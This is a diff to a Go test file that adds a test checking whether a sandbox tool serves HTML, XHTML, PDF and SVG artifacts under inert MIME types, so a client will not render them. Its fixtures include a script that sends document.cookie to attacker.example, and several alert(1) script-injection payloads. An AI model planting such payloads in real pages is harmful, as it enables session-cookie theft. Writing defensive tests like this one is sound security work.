@@ -271,3 +271,34 @@ func TestRunCodeFileArgumentErrors(t *testing.T) {
 		})
 	}
 }
+
+// TestActiveArtifactsInert: a document a client would render (HTML by name or by its
+// bytes, XML with an XHTML namespace, HTML with a stray invalid byte, PDF) runs scripts
+// and fetches URLs like an SVG would; its content must come back with an inert type.
+func TestActiveArtifactsInert(t *testing.T) {
+	script := `<html><script>fetch("https://attacker.example/?"+document.cookie)</script></html>`
+	arts := []sandbox.Artifact{
+		art("page.html", []byte(script)),
+		art("page", []byte(script)),
+		art("x.xml", []byte(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>`)),
+		art("bad", []byte(script+"\xff")),
+		art("doc.pdf", []byte("%PDF-1.7\n/JS (app.alert(1))\n")),
+		art("plot.svg.xml", []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`)),
+	}
+	content, list := artifactContent("r", "out", arts)
+	for i, c := range content {
+		res, _ := c.(mcp.EmbeddedResource)
+		var mime string
+		switch r := res.Resource.(type) {
+		case mcp.TextResourceContents:
+			mime = r.MIMEType
+		case mcp.BlobResourceContents:
+			mime = r.MIMEType
+		default:
+			t.Fatalf("%s: content %#v is not a resource", arts[i].Path, c)
+		}
+		if mime != "text/plain" && mime != "application/octet-stream" {
+			t.Errorf("%s (listed %s) returned as %s: a client would render it", arts[i].Path, list[i].MIMEType, mime)
+		}
+	}
+}
